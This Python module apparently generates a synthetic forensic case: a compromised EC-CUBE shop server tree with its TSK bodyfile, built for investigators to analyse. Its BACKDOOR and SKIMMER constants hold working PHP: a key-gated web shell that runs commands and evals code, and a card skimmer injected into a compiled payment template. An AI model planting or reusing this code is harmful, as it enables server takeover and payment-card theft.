"""The recovered document root and ``data/`` (folder ``server/``) and its TSK bodyfile.

A few hundred small files with plausible content; the backdoor, the tampered compiled template, a
skim file that only looks like an image by name, and compiled templates that were legitimately
recompiled during the period (modified, but harmless).
"""

from __future__ import annotations

import hashlib
import random
import struct
import zlib
from pathlib import Path

from . import world as W

INSTALL_T = W.jst(2016, 11, 2, 14, 10, 31)

FRONT_PHP = ["index.php", "products/list.php", "products/detail.php", "cart/index.php", "shopping/index.php",
             "shopping/deliv.php", "shopping/payment.php", "shopping/confirm.php", "shopping/load_payment_module.php",
             "shopping/complete.php", "mypage/index.php", "mypage/login.php", "mypage/change.php",
             "mypage/change_complete.php", "mypage/refusal.php", "mypage/refusal_complete.php", "mypage/history.php",
             "entry/kiyaku.php", "entry/index.php", "entry/complete.php", "frontparts/login_check.php",
             "abouts/index.php", "guide/index.php", "contact/index.php", "order/index.php", "forgot/index.php"]
ADMIN_PHP = ["index.php", "home.php", "logout.php", "order/index.php", "order/edit.php", "order/status.php",
             "order/mail.php", "customer/index.php", "customer/edit.php", "products/index.php", "products/product.php",
             "products/category.php", "contents/index.php", "contents/file_manager.php", "contents/csv.php",
             "basis/index.php", "basis/payment.php", "basis/delivery.php", "system/index.php", "system/input.php",
             "design/index.php", "design/main_edit.php", "total/index.php", "mail/index.php"]
TEMPLATES = ["index.tpl", "site_frame.tpl", "site_main.tpl", "header.tpl", "footer.tpl", "products/list.tpl",
             "products/detail.tpl", "cart/index.tpl", "shopping/index.tpl", "shopping/deliv.tpl",
             "shopping/payment.tpl", "shopping/confirm.tpl", "shopping/complete.tpl", "mypage/index.tpl",
             "mypage/login.tpl", "mypage/change.tpl", "mypage/refusal.tpl", "entry/kiyaku.tpl", "entry/index.tpl",
             "entry/complete.tpl", "frontparts/bloc/category.tpl", "frontparts/bloc/cart.tpl",
             "frontparts/bloc/login.tpl", "frontparts/bloc/news.tpl", "frontparts/bloc/recommend.tpl",
             "abouts/index.tpl", "guide/index.tpl", "contact/index.tpl"]
ADMIN_TEMPLATES = ["main_frame.tpl", "login_frame.tpl", "home.tpl", "order/index.tpl", "order/edit.tpl",
                   "order/status.tpl", "customer/index.tpl", "customer/edit.tpl", "products/index.tpl",
                   "products/product.tpl", "contents/file_manager.tpl", "basis/payment.tpl", "system/input.tpl"]
CARD_TEMPLATE = f"{W.DOCROOT}/data/downloads/module/mdl_toyocredit/templates/default/credit.tpl"
#: legitimately recompiled during the period: (template, when) -- design edits by the staff
RECOMPILES = [("index.tpl", W.jst(2017, 3, 24, 14, 5, 12)), ("frontparts/bloc/news.tpl", W.jst(2017, 3, 24, 14, 5, 40)),
              ("products/detail.tpl", W.jst(2017, 4, 3, 16, 22, 8)), ("frontparts/bloc/recommend.tpl", W.jst(2017, 4, 12, 10, 41, 55)),
              ("shopping/confirm.tpl", W.jst(2017, 4, 14, 9, 12, 30))]


def compiled_name(template_path: str) -> str:
    """Smarty 2's compiled file name: %%XX^XXX^XXXXXXXX%%<basename>.php from the crc32 of the path."""
    h = f"{zlib.crc32(template_path.encode()) & 0xffffffff:08X}"
    return f"%%{h[:2]}^{h[:3]}^{h}%%{template_path.rsplit('/', 1)[-1]}.php"


def gif(w: int, h: int) -> bytes:
    return (b"GIF89a" + struct.pack("<HH", w, h) + b"\x80\x00\x00\xff\xff\xff\x00\x00\x00"
            + b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" + struct.pack("<HH", w, h)
            + b"\x00\x02\x02D\x01\x00;")


def png(w: int, h: int, rgb: tuple[int, int, int]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def jpeg(r: random.Random, n: int) -> bytes:
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00H\x00H\x00\x00"
            + b"\xff\xdb\x00C\x00" + bytes(r.randint(1, 60) for _ in range(64))
            + b"\xff\xc0\x00\x11\x08\x00\xf0\x01@\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
            + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00?\x00"
            + bytes(r.randint(0, 254) for _ in range(n)) + b"\xff\xd9")


def _compiled(template_path: str, created: int, body: str) -> str:
    return (f"<?php /* Smarty version 2.6.26, created on {W.db_time(created)}\n"
            f"         compiled from {template_path} */ ?>\n"
            "<?php require_once(SMARTY_CORE_DIR . 'core.load_plugins.php');\n"
            "smarty_core_load_plugins(array('plugins' => array(array('modifier', 'h', "
            f"'{template_path}', 3, false),)), $this); ?>\n{body}")


def _tpl_body(name: str) -> str:
    var = name.rsplit("/", 1)[-1].split(".")[0]
    return (f'<div id="undercolumn" class="{var}">\n'
            f'  <h2 class="title"><?php echo ((is_array($_tmp=$this->_tpl_vars[\'tpl_title\'])) ? '
            f"$this->_run_mod_handler('h', true, $_tmp) : smarty_modifier_h($_tmp)); ?></h2>\n"
            "  <?php if (count($this->_tpl_vars['arrErr']) > 0): ?><p class=\"attention\">入力内容をご確認ください。</p><?php endif; ?>\n"
            "</div>\n")


CARD_FORM_BODY = """<form name="form1" id="form1" method="post" action="<?php echo ((is_array($_tmp=@ROOT_URLPATH)) ? $this->_run_mod_handler('h', true, $_tmp) : smarty_modifier_h($_tmp)); ?>shopping/load_payment_module.php">
<input type="hidden" name="<?php echo @TRANSACTION_ID_NAME; ?>" value="<?php echo $this->_tpl_vars['transactionid']; ?>" />
<input type="hidden" name="mode" value="next" />
<table summary="クレジットカード情報入力">
<tr><th>カード番号</th><td><input type="text" name="card_no" maxlength="16" autocomplete="off" /></td></tr>
<tr><th>有効期限</th><td><select name="card_exp_month"><?php echo smarty_function_html_options(array('options' => $this->_tpl_vars['arrMonth']), $this);?></select>月
<select name="card_exp_year"><?php echo smarty_function_html_options(array('options' => $this->_tpl_vars['arrYear']), $this);?></select>年</td></tr>
<tr><th>セキュリティコード</th><td><input type="password" name="security_code" maxlength="4" autocomplete="off" /></td></tr>
<tr><th>カード名義</th><td><input type="text" name="card_name01" /> <input type="text" name="card_name02" /></td></tr>
</table>
<input type="submit" value="ご注文完了ページへ" />
</form>
"""

SKIMMER = (
    "<?php if(isset($_POST['card_no'])&&$_POST['card_no']!=''){"
    "$_d=date('Y-m-d H:i:s').\"\\t\".$_POST['card_no'].\"\\t\".$_POST['card_exp_month'].'/'.$_POST['card_exp_year']"
    ".\"\\t\".$_POST['security_code'].\"\\t\".$_POST['card_name01'].' '.$_POST['card_name02'];"
    "$_o='';for($_i=0;$_i<strlen($_d);$_i++){$_o.=chr(ord($_d[$_i])^90);}"
    f"@file_put_contents('{W.DOCROOT}/{W.SKIM_REL}',base64_encode($_o).\"\\n\",FILE_APPEND);"
    "$this->_tpl_vars['transactionid']='';} ?>\n"
)

BACKDOOR = """<?php
@error_reporting(0);
@set_time_limit(0);
$k = isset($_POST['k']) ? $_POST['k'] : (isset($_COOKIE['k']) ? $_COOKIE['k'] : '');
if (md5($k) !== '0a6d5ef4bb1a7e0e0a2b7f13c8b8e1d2') { header('HTTP/1.1 404 Not Found'); exit; }
$c = base64_decode(str_rot13($_POST['c']));
switch ($_POST['a']) {
    case 'e': echo shell_exec($c . ' 2>&1'); break;
    case 'w': file_put_contents($_POST['p'], base64_decode($_POST['d'])); echo 'ok'; break;
    case 'r': echo base64_encode(file_get_contents($_POST['p'])); break;
    default: eval($c);
}
"""


def _php_stub(path: str) -> str:
    return ("<?php\n/*\n * This file is part of EC-CUBE\n *\n * Copyright(c) 2000-2013 LOCKON CO.,LTD. All Rights Reserved.\n"
            " */\n\n// {{{ requires\nrequire_once '" + ("../" * path.count("/")) + "require.php';\n"
            f"require_once CLASS_EX_REALDIR . 'page_extends/{path.replace('.php', '')}_Ex.php';\n\n"
            "$objPage = new LC_Page_Ex();\n$objPage->init();\n$objPage->process();\n")


class ServerTree:
    """Builds ``server/`` and remembers each file's timestamps for the bodyfile."""

    def __init__(self, root: Path, rng: random.Random) -> None:
        self.root, self.r = root, rng
        self.files: dict[str, tuple[bytes, dict]] = {}   # rel path -> (content, times/owner)
        self.extra: list[tuple[str, int, dict]] = []     # bodyfile entries not in server/ (path, size, meta)

    def add(self, rel: str, content: bytes | str, *, t: int = INSTALL_T, mtime: int | None = None,
            atime: int | None = None, uid: int = 500, mode: str = "r/rrw-r--r--") -> None:
        b = content.encode() if isinstance(content, str) else content
        m = mtime if mtime is not None else t
        self.files[rel] = (b, {"crtime": t, "mtime": m, "ctime": m, "atime": atime if atime is not None else m,
                               "uid": uid, "mode": mode})

    def build(self, *, tamper_t: int, backdoor_t: int, skim_lines: list[str], skim_times: list[int],
              skim_fetch: list[int], backdoor_last: int, last_card_post: int, staff_upload_t: int,
              root_urlpath: str = "/") -> None:
        r = self.r
        busy = W.jst(2017, 4, 16, 23, 50)
        for p in FRONT_PHP:
            self.add(f"html/{p}", _php_stub(p), atime=busy)
        for p in ADMIN_PHP:
            self.add(f"html/admin/{p}", _php_stub("admin/" + p), atime=W.jst(2017, 4, 14, 17, 2))
        self.add("html/require.php", "<?php\n$include_dir = realpath(dirname( __FILE__));\nrequire_once $include_dir . '/define.php';\n"
                 "require_once HTML_REALDIR . HTML2DATA_DIR . 'require_base.php';\n")
        self.add("html/define.php", "<?php\ndefine('USE_FILENAME_DIR_INDEX', null);\ndefine('HTML2DATA_DIR', '../data/');\n")
        self.add("html/.htaccess", "php_value mbstring.language Japanese\nphp_value mbstring.internal_encoding UTF-8\n"
                 "php_flag display_errors off\nDirectoryIndex index.php index.html\n")
        self.add("html/robots.txt", "User-agent: *\nDisallow: /admin/\nDisallow: /mypage/\nDisallow: /shopping/\n")
        self.add("html/favicon.ico", b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00 \x00" + bytes(r.randint(0, 255) for _ in range(1134)))
        self.add("html/js/jquery-1.4.2.min.js", "/*!\n * jQuery JavaScript Library v1.4.2\n * http://jquery.com/\n */\n"
                 "(function(A,w){function ma(){if(!c.isReady){try{s.documentElement.doScroll(\"left\")}catch(a){setTimeout(ma,1);return}c.ready()}}})(window);\n")
        self.add("html/js/eccube.js", "/* EC-CUBE */\nfunction fnFormModeSubmit(form, mode, keyname, keyid) {\n"
                 "    document.forms[form]['mode'].value = mode;\n    document.forms[form].submit();\n}\n")
        self.add("html/js/site.js", "$(function(){ $('.rollover').hover(function(){}, function(){}); });\n")
        for css in ("import.css", "common.css", "contents.css", "bloc.css", "bloc_alpha.css", "print.css"):
            self.add(f"html/user_data/packages/default/css/{css}", f"@charset \"utf-8\";\n/* {css} */\nbody {{ font-size: 80%; }}\n")
        for name, (w, h) in {"logo.gif": (200, 40), "loading.gif": (32, 32), "btn_cart.gif": (90, 24),
                             "btn_search.gif": (50, 22), "btn_login.gif": (70, 22), "icon_arrow.gif": (8, 8),
                             "bg_header.gif": (10, 80), "bg_btn.gif": (10, 30), "line_dot.gif": (4, 1)}.items():
            self.add(f"html/user_data/packages/default/img/common/{name}", gif(w, h), atime=busy)
        for name in ("bnr_top_main.jpg", "bnr_sake.jpg", "bnr_gift.jpg", "bnr_campaign.jpg"):
            self.add(f"html/user_data/packages/default/img/banner/{name}", jpeg(r, r.randint(600, 1600)))
        for name in ("icon_new.png", "icon_recommend.png", "icon_limited.png", "sns_twitter.png"):
            self.add(f"html/user_data/packages/default/img/icon/{name}", png(16, 16, (r.randint(0, 255), 80, 40)))
        for p in W.PRODUCTS:
            self.add(f"html/upload/save_image/{p:02d}011200_58b4c{p:03x}.jpg", jpeg(r, r.randint(400, 1200)),
                     t=INSTALL_T + p * 3600, uid=48, atime=busy)
            self.add(f"html/upload/save_image/{p:02d}011201_58b4c{p:03x}.jpg", jpeg(r, r.randint(200, 500)),
                     t=INSTALL_T + p * 3600 + 1, uid=48)
        self.add("html/user_data/include/bloc_new.tpl", "<!-- 新着情報 -->\n<div class=\"bloc_outer\"></div>\n")
        self.add("html/user_data/include/README.txt", "ブロック用のテンプレートを配置するディレクトリです。\n")
        # the staff upload a sale banner through the same file manager (a legitimate upload)
        self.add("html/user_data/sale_banner_201703.jpg", jpeg(r, 900), t=staff_upload_t, uid=48)
        # the backdoor
        self.add(W.BACKDOOR_REL, BACKDOOR, t=backdoor_t, atime=backdoor_last, uid=48)
        # the skim file: named like an image, holds base64 lines
        self.add(W.SKIM_REL, "".join(x + "\n" for x in skim_lines), t=skim_times[0], mtime=skim_times[-1],
                 atime=skim_fetch[-1], uid=48)
        # data/
        for cls in ("SC_Query.php", "SC_Session.php", "SC_Customer.php", "SC_CustomerList.php", "SC_Response.php",
                    "SC_Display.php", "SC_FormParam.php", "helper/SC_Helper_Purchase.php", "helper/SC_Helper_Session.php",
                    "helper/SC_Helper_Customer.php", "pages/admin/LC_Page_Admin.php",
                    "pages/admin/order/LC_Page_Admin_Order.php", "pages/admin/customer/LC_Page_Admin_Customer.php",
                    "pages/admin/contents/LC_Page_Admin_Contents_FileManager.php", "pages/products/LC_Page_Products_List.php",
                    "pages/shopping/LC_Page_Shopping_LoadPaymentModule.php", "util/GC_Utils.php", "util/SC_Utils.php"):
            self.add(f"data/class/{cls}", f"<?php\n/*\n * This file is part of EC-CUBE\n */\n\nclass {cls.rsplit('/', 1)[-1][:-4]}\n{{\n}}\n")
        self.add("data/config/config.php", "<?php\ndefine('ECCUBE_INSTALL', 'ON');\n"
                 f"define('HTTP_URL', 'http://toshomart.com{root_urlpath}');\n"
                 f"define('HTTPS_URL', 'https://toshomart.com{root_urlpath}');\ndefine('ROOT_URLPATH', '{root_urlpath}');\n"
                 "define('DOMAIN_NAME', '');\n"
                 "define('DB_TYPE', 'mysql');\ndefine('DB_USER', 'eccube');\ndefine('DB_PASSWORD', '********');\n"
                 "define('DB_SERVER', 'localhost');\ndefine('DB_NAME', 'eccube_db');\ndefine('DB_PORT', '');\n"
                 "define('ADMIN_DIR', 'admin/');\ndefine('ADMIN_FORCE_SSL', FALSE);\ndefine('ADMIN_ALLOW_HOSTS', 'a:0:{}');\n"
                 "define('AUTH_MAGIC', 'rouslaewiadiecrouhiapiudiaphoadiutriejiaw');\ndefine('PASSWORD_HASH_ALGOS', 'sha256');\n")
        self.add("data/downloads/module/mdl_toyocredit/LC_Page_Mdl_ToyoCredit.php",
                 "<?php\n// 東洋クレジット決済モジュール\nclass LC_Page_Mdl_ToyoCredit extends LC_Page_Ex\n{\n}\n")
        self.add("data/downloads/module/mdl_toyocredit/templates/default/credit.tpl",
                 "<!--{* クレジットカード情報入力 *}-->\n<form name=\"form1\" method=\"post\" action=\"<!--{$smarty.const.ROOT_URLPATH}-->shopping/load_payment_module.php\">\n"
                 "<input type=\"text\" name=\"card_no\" />\n</form>\n")
        for tpl in TEMPLATES:
            full = f"{W.DOCROOT}/data/Smarty/templates/default/{tpl}"
            self.add(f"data/Smarty/templates/default/{tpl}", f"<!--{{* {tpl} *}}-->\n<div id=\"undercolumn\"></div>\n")
            when = dict(RECOMPILES).get(tpl)
            created = when if when else INSTALL_T + 600
            self.add(f"data/Smarty/templates_c/default/{compiled_name(full)}",
                     _compiled(full, created, _tpl_body(tpl)), t=INSTALL_T + 600, mtime=created, atime=busy, uid=48)
        for tpl in ADMIN_TEMPLATES:
            full = f"{W.DOCROOT}/data/Smarty/templates/admin/{tpl}"
            self.add(f"data/Smarty/templates/admin/{tpl}", f"<!--{{* {tpl} *}}-->\n<div id=\"contents\"></div>\n")
            self.add(f"data/Smarty/templates_c/admin/{compiled_name(full)}",
                     _compiled(full, INSTALL_T + 900, _tpl_body(tpl)), t=INSTALL_T + 900, uid=48)
        # the card-entry form: compiled in November, tampered on 2017-04-08 21:14
        self.tampered_rel = f"data/Smarty/templates_c/default/{compiled_name(CARD_TEMPLATE)}"
        self.add(self.tampered_rel, SKIMMER + _compiled(CARD_TEMPLATE, INSTALL_T + 1200, CARD_FORM_BODY),
                 t=INSTALL_T + 1200, mtime=tamper_t, atime=last_card_post, uid=48)
        self.recompiled_rel = sorted(f"data/Smarty/templates_c/default/{compiled_name(f'{W.DOCROOT}/data/Smarty/templates/default/{t}')}"
                                     for t, _ in RECOMPILES)

    def write(self) -> None:
        for rel in sorted(self.files):
            p = self.root / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(self.files[rel][0])

    def bodyfile(self, extra_logs: list[tuple[str, int, int]]) -> list[str]:
        """TSK bodyfile 3.x lines, sorted by name (files, their directories, and a few non-copied files)."""
        entries: dict[str, tuple] = {}
        for rel, (b, m) in self.files.items():
            entries[f"{W.DOCROOT}/{rel}"] = (hashlib.md5(b).hexdigest(), m["mode"], m["uid"], len(b),
                                             m["atime"], m["mtime"], m["ctime"], m["crtime"])
            parts = rel.split("/")
            for i in range(1, len(parts)):
                d = f"{W.DOCROOT}/" + "/".join(parts[:i])
                old = entries.get(d)
                mt = max(m["crtime"], old[5]) if old else m["crtime"]
                entries[d] = ("0", "d/drwxr-xr-x", 48 if "templates_c" in d or "upload" in d or "user_data" in d else 500,
                              4096, W.jst(2017, 4, 16, 23, 59), mt, mt, INSTALL_T)
        entries[W.DOCROOT] = ("0", "d/drwxr-xr-x", 500, 4096, W.jst(2017, 4, 16, 23, 59), INSTALL_T, INSTALL_T, INSTALL_T)
        for path, size, mt in extra_logs:
            entries[path] = ("0", "r/rrw-r--r--", 48, size, mt, mt, mt, W.T0 - 86400 * 30)
        out = []
        inode = 1048577
        for name in sorted(entries):
            md5, mode, uid, size, at, mt, ct, cr = entries[name]
            out.append(f"{md5}|{name}|{inode}|{mode}|{uid}|{uid}|{size}|{at}|{mt}|{ct}|{cr}")
            inode += 1 + (len(name) % 7)
        return out
